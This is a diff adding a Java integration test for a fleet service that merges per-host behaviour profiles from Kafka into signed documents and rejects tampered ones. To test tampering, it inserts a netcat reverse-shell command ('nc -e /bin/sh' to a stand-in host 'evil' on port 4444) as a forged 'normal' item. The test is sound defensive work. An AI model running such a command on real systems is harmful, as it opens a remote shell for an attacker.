@@ -1,0 +1,108 @@
+package dev.vigil.fleet;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatThrownBy;
+
+import com.fasterxml.jackson.databind.ObjectMapper;
+import com.fasterxml.jackson.databind.node.ObjectNode;
+import dev.vigil.alert.KafkaOutputTest;
+import java.io.PrintStream;
+import java.nio.file.Path;
+import java.time.Duration;
+import java.util.List;
+import java.util.Map;
+import java.util.Properties;
+import java.util.Set;
+import org.apache.kafka.clients.consumer.ConsumerRecord;
+import org.apache.kafka.clients.producer.KafkaProducer;
+import org.apache.kafka.clients.producer.ProducerConfig;
+import org.apache.kafka.clients.producer.ProducerRecord;
+import org.apache.kafka.common.serialization.StringSerializer;
+import org.junit.jupiter.api.AfterAll;
+import org.junit.jupiter.api.BeforeAll;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+
+/** The fleet service against an in-process KRaft broker on loopback (no root). */
+class FleetServiceTest {
+    static final String W = "systemd:nginx.service nginx";
+    static final PrintStream QUIET = new PrintStream(java.io.OutputStream.nullOutputStream());
+
+    @BeforeAll
+    static void broker() throws Exception { KafkaOutputTest.broker(); }
+
+    @AfterAll
+    static void stop() throws Exception { KafkaOutputTest.stop(); }
+
+    static String event(String host, String dimension, String item, String verdict) {
+        return new ObjectMapper().createObjectNode().put("schema", "vigil.profile-event/1").put("host", host).put("workload", W).put("dimension", dimension)
+                .put("item", item).put("verdict", verdict).put("state", "learning").put("time", "2026-11-24T00:00:00Z").toString();
+    }
+
+    static void produce(String topic, List<String> values) throws Exception {
+        Properties p = new Properties();
+        p.put(ProducerConfig.BOOTSTRAP_SERVERS_CONFIG, KafkaOutputTest.kafka.bootstrapServers());
+        try (var prod = new KafkaProducer<>(p, new StringSerializer(), new StringSerializer())) {
+            for (String v : values) prod.send(new ProducerRecord<>(topic, W, v)).get();
+        }
+    }
+
+    /** Polls until n events have been taken in (or 30 s). */
+    static void drain(FleetService f, long n) throws Exception {
+        long end = System.nanoTime() + 30_000_000_000L;
+        while (f.counts().get("events") < n && System.nanoTime() < end) f.pollOnce(Duration.ofMillis(200));
+    }
+
+    static FleetDocument.Read latest(String topic, Signer verifier) throws Exception {
+        List<ConsumerRecord<String, String>> docs = KafkaOutputTest.read(topic, 1);
+        ConsumerRecord<String, String> last = null;
+        for (var r : docs) if (r.key().equals(W)) last = r;
+        assertThat(last).isNotNull();
+        return FleetDocument.read(last.value(), verifier);
+    }
+
+    @Test
+    void threeHostsMergeAnItemOnOneHostStaysOutARestartDoesNotDoubleCountATamperedDocumentFails(@TempDir Path dir) throws Exception {
+        Signer signer = Signer.generate(dir);
+        Signer verifier = Signer.verifier(dir.resolve(Signer.PUBLIC));
+        FleetService.Settings s = new FleetService.Settings(KafkaOutputTest.kafka.bootstrapServers(), "fleet-t1", "events.t1", "profiles.t1", 2, Map.of());
+        List<String> first = List.of(
+                event("h1", "process", "/usr/sbin/nginx -> /usr/bin/dash -c logrotate", "learnt"),
+                event("h2", "process", "/usr/sbin/nginx -> /usr/bin/dash -c logrotate", "learnt"),
+                event("h3", "process", "/usr/sbin/nginx -> /usr/bin/dash -c logrotate", "learnt"),
+                event("h1", "files", "read /etc/nginx/nginx.conf", "learnt"),
+                event("h2", "files", "read /etc/nginx/nginx.conf", "learnt"),
+                event("h1", "network", "connect tcp public:443", "novel"));
+        try (FleetService f = new FleetService(s, signer, QUIET)) {
+            produce("events.t1", first);
+            drain(f, first.size());
+            assertThat(f.counts()).containsEntry("events", 6L).containsEntry("invalid", 0L);
+        }
+        FleetDocument.Read d = latest("profiles.t1", verifier);
+        assertThat(d.normal()).isEqualTo(Map.of("process", Set.of("/usr/sbin/nginx -> /usr/bin/dash -c logrotate"), "files", Set.of("read /etc/nginx/nginx.conf")));
+        assertThat(d.profile().hosts().get("network").get("connect tcp public:443")).as("seen on one host of three: novel with k = 2").containsExactly("h1");
+
+        // restarted: the state comes back from the profiles topic, the same events again count once, a second host makes the endpoint normal
+        try (FleetService f = new FleetService(s, signer, QUIET)) {
+            assertThat(f.profile(W).hosts().get("process").get("/usr/sbin/nginx -> /usr/bin/dash -c logrotate")).containsExactly("h1", "h2", "h3");
+            produce("events.t1", first);
+            produce("events.t1", List.of(event("h2", "network", "connect tcp public:443", "novel"), event("operator", "risky", "ptrace ATTACH", "allowed")));
+            drain(f, first.size() + 2);
+            assertThat(f.counts()).containsEntry("events", 8L).as("resumed from the committed offsets: only the new events").containsEntry("invalid", 0L);
+        }
+        FleetDocument.Read after = latest("profiles.t1", verifier);
+        assertThat(after.profile().hosts().get("process").get("/usr/sbin/nginx -> /usr/bin/dash -c logrotate")).as("no double counting").hasSize(3);
+        assertThat(after.normal().get("network")).containsExactly("connect tcp public:443");
+        assertThat(after.normal().get("risky")).as("allowed by an operator").containsExactly("ptrace ATTACH");
+
+        // tampered: an item added to the normal set, or the document signed by another key
+        String doc = KafkaOutputTest.read("profiles.t1", 1).getLast().value();
+        ObjectNode o = (ObjectNode) new ObjectMapper().readTree(doc);
+        o.withObjectProperty("normal").withArrayProperty("process").add("/usr/sbin/nginx -> /usr/bin/nc -e /bin/sh evil 4444");
+        assertThatThrownBy(() -> FleetDocument.read(o.toString(), verifier)).isInstanceOf(FleetDocument.InvalidException.class)
+                .hasMessageContaining("does not verify");
+        Signer other = Signer.generate(dir.resolve("other"));
+        assertThatThrownBy(() -> FleetDocument.read(FleetDocument.write(after.profile(), 2, other), verifier)).isInstanceOf(FleetDocument.InvalidException.class);
+        assertThat(FleetDocument.read(doc, verifier).normal()).isEqualTo(after.normal());
+    }
+}
